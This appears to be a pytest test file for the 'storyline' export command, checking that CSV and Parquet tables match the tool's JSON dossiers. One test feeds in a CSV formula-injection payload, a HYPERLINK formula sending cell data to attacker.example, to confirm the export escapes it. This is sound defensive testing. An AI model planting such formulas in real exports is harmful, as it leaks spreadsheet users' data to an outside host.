"""`storyline export`: the tables a researcher opens in a spreadsheet or notebook, read back with
pandas and pyarrow, and checked against what the dossier itself says."""

from __future__ import annotations

import json

import pandas as pd
import pyarrow.parquet as pq
import pytest

import storyline
from storyline.engine.local import ingest
from storyline.export import TABLES
from storyline.store.repo import Store


def _dossiers(cli, db):
    code, out, _ = cli("stories", "--json", "--db", db)
    ids = [s["id"] for s in json.loads(out)]
    found = {}
    for sid in ids:
        code, out, _ = cli("dossier", sid, "--format", "json", "--db", db)
        assert code == 0
        found[sid] = json.loads(out)
    return found


@pytest.fixture(scope="module")
def exported(corpus_db, tmp_path_factory):
    from storyline.cli import main

    out = tmp_path_factory.mktemp("export")
    for fmt in ("csv", "parquet"):
        assert main(["export", "--format", fmt, "-o", str(out / fmt), "--db", str(corpus_db), "--quiet"]) == 0
    return out


def _read(exported, fmt, table):
    path = exported / fmt / f"{table}.{fmt}"
    if fmt == "csv":
        return pd.read_csv(path, keep_default_na=False, na_values=[""])
    return pd.read_parquet(path)


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_every_table_reads_back_with_its_documented_columns(exported, fmt):
    for table, columns in TABLES.items():
        df = _read(exported, fmt, table)
        assert list(df.columns) == [c.name for c in columns], table
        assert len(df) > 0, table
    if fmt == "parquet":
        for table, columns in TABLES.items():
            schema = pq.read_schema(exported / fmt / f"{table}.parquet")
            assert schema.names == [c.name for c in columns]
        stories = pq.read_table(exported / fmt / "stories.parquet").to_pylist()
        assert all(isinstance(s["outlets"], list) and isinstance(s["story_id"], int) for s in stories)


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_the_claims_table_is_the_corroboration_matrix(exported, corpus_db, cli, fmt):
    claims = _read(exported, fmt, "claims")
    dossiers = _dossiers(cli, corpus_db)
    assert len(claims) == sum(len(d["claims"]) * len(d["matrix_outlets"]) for d in dossiers.values())
    for sid, d in dossiers.items():
        mine = claims[claims.story_id == sid]
        for i, c in enumerate(d["claims"]):
            row = mine[mine.claim_id == i]
            assert list(row.claim.unique()) == [c["text"]] and list(row.status.unique()) == [c["status"]]
            assert dict(zip(row.outlet, row.cell, strict=True)) == c["cells"]
            for _, r in row[row.cell == "reports"].iterrows():  # each reporting cell cites that outlet's words
                src = next(s for s in c["sources"] if s["article"] == r.article_id)
                assert src["outlet_label"] == r.outlet and src["text"] == r.sentence_text
    corroborated = claims[claims.status == "corroborated"]
    assert not corroborated.empty
    for _, rows in corroborated.groupby(["story_id", "claim_id"]):
        known = rows[(rows.cell == "reports") & (rows.outlet != "unknown outlet")]
        assert len(known) >= 2  # "corroborated" always means two known outlets in the table too


def test_articles_quotes_and_entities_match_the_dossier(exported, corpus_db, cli):
    dossiers = _dossiers(cli, corpus_db)
    articles = _read(exported, "parquet", "articles")
    assert sorted(articles.article_id) == sorted(a["id"] for d in dossiers.values() for a in d["articles"])
    one = next(a for d in dossiers.values() for a in d["articles"])
    row = articles[articles.article_id == one["id"]].iloc[0]
    assert row.text == one["text"] and row.outlet == one["outlet"]
    csv_text = _read(exported, "csv", "articles").set_index("article_id").loc[one["id"], "text"]
    assert csv_text == one["text"]  # paragraph breaks and quote marks survive CSV
    quotes = _read(exported, "parquet", "quotes")
    assert len(quotes) == sum(len(q["sources"]) for d in dossiers.values() for q in d["quotes"])
    said = {(r.story_id, r.speaker, r.quote) for r in quotes.itertuples()}
    for sid, d in dossiers.items():
        for q in d["quotes"]:
            for s in q["sources"]:
                assert (sid, q["speaker"], s["text"]) in said
    entities = _read(exported, "csv", "entities")
    assert len(entities) == sum(len(d["entities"]) for d in dossiers.values())
    conflicts = _read(exported, "csv", "conflicts")
    assert set(conflicts.story_id) == {sid for sid, d in dossiers.items() if d["conflicts"]}
    changes = _read(exported, "parquet", "changes")  # one ingest: each article is news once
    assert sorted(changes[changes.kind == "new article"].article_id) == sorted(articles.article_id)


def test_one_story_and_the_python_api(corpus_db, tmp_path, cli):
    code, out, _ = cli("stories", "--json", "--db", corpus_db)
    story = json.loads(out)[0]
    with storyline.open(corpus_db) as sl:
        done = sl.export(tmp_path / "one", format="parquet", story=story["id"])
    assert done.stories == 1
    stories = pd.read_parquet(tmp_path / "one" / "stories.parquet")
    assert list(stories.story_id) == [story["id"]] and stories.title[0] == story["title"]
    assert set(pd.read_parquet(tmp_path / "one" / "articles.parquet").story_id) == {story["id"]}
    code, _, err = cli("export", "-o", tmp_path / "x", "--story", 999, "--db", corpus_db)
    assert code == 2 and "no story 999" in err


def test_scraped_formulas_do_not_run_in_a_spreadsheet(tmp_path, cli):
    (tmp_path / "a.txt").write_text(
        '=HYPERLINK("http://attacker.example/?"&A1,"Click")\n\n'
        "Port Aldwin closed the Kestrel Bridge on Monday after engineers found a crack, the council said.\n\n"
        "-5 degrees is forecast for the weekend, the council said.",
        encoding="utf-8",
    )
    db = tmp_path / "s.db"
    with Store(db) as store:
        ingest(store, [str(tmp_path / "a.txt")])
    assert cli("export", "-o", tmp_path / "out", "--db", db, "--quiet")[0] == 0
    assert cli("export", "-f", "parquet", "-o", tmp_path / "out", "--db", db, "--quiet")[0] == 0
    text = pd.read_csv(tmp_path / "out" / "articles.csv").text[0]
    assert text.startswith("'=HYPERLINK(")  # shown as text by spreadsheets
    assert pd.read_parquet(tmp_path / "out" / "articles.parquet").text[0].startswith("=HYPERLINK(")  # exact
    sentences = pd.read_csv(tmp_path / "out" / "claims.csv").sentence_text
    assert any(t.startswith("'-5 degrees") for t in sentences)  # "-5 degrees ..." is not a number


def test_columns_are_listed(cli):
    code, out, _ = cli("export", "--columns")
    assert code == 0
    for table, columns in TABLES.items():
        assert f"{table}:" in out and all(c.name in out for c in columns)
